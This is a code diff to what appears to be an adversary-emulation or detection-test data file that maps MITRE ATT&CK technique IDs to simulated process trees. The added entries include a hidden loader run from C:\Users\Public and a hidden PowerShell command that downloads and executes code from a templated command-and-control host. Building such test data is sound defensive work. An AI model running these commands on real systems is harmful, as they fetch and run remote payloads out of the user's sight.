@@ -48,7 +48,8 @@ export const extrasG: Readonly<Record<string, readonly Variant[]>> = {
   "T1564.011": [
     v("public-loader-start-b", [
       { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "l" },
-      { cmd: "cmd.exe /c start /b C:\\Users\\Public\\{{rand}}.exe", parent: "l" },
+      { cmd: "cmd.exe /c start /b C:\\Users\\Public\\{{rand}}.exe", parent: "l", as: "c" },
+      { cmd: "C:\\Users\\Public\\{{rand}}.exe", parent: "c", keep: true },
     ]),
   ],
   "T1565.002": [
@@ -71,6 +72,12 @@ export const extrasG: Readonly<Record<string, readonly Variant[]>> = {
         {
           cmd: "cmd.exe /c powershell -w hidden -nop -c iex(iwr http://{{c2}}/c -UseBasicParsing)",
           parent: "hh",
+          as: "c",
+        },
+        {
+          cmd: "powershell  -w hidden -nop -c iex(iwr http://{{c2}}/c -UseBasicParsing)",
+          parent: "c",
+          net: [["{{c2}}", 80]],
         },
       ],
       { shell: "none" },
